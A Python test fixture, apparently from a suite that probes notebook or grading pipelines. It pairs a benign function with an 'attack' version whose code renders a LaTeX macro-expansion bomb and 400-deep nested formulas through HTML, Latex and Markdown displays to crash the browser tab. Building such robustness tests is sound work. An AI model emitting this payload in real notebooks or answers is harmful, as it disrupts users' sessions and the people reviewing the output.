"""Shows formulas that unfold to millions of characters in a browser, and some that are nested so deeply that its tab ends."""

from attacks import Attack

attack = Attack(
    says="Your code raised ValueError",
    answer=r"""
from IPython.display import HTML, Latex, Markdown, display

double = "".join(rf"\\def\\{chr(98 + n)}{{\\{chr(97 + n)}\\{chr(97 + n)}}}" for n in range(12))
bomb = rf"$\\def\\a{{x}}{double}$ " + r"$\\m$ " * 100
deep = "$" + r"\\frac{1}{" * 400 + "1" + "}" * 400 + "$"
for show in (HTML, Latex, Markdown):
    display(show(bomb), show(deep), show("$" + r"\\tiny " * 400 + "x$"))

def hello_shape(x):
    raise ValueError(bomb[:400])
""".replace("\\\\", "\\"),
    twin=r"""
from IPython.display import Latex, Markdown, display

display(Latex(r"$$\left(\frac{1}{1 + e^{-x}}\right)$$"), Markdown(r"$\sigma(x)$ and $\displaystyle \sum_i x_i$"))

def hello_shape(x):
    return tuple(x.shape)
""",
)
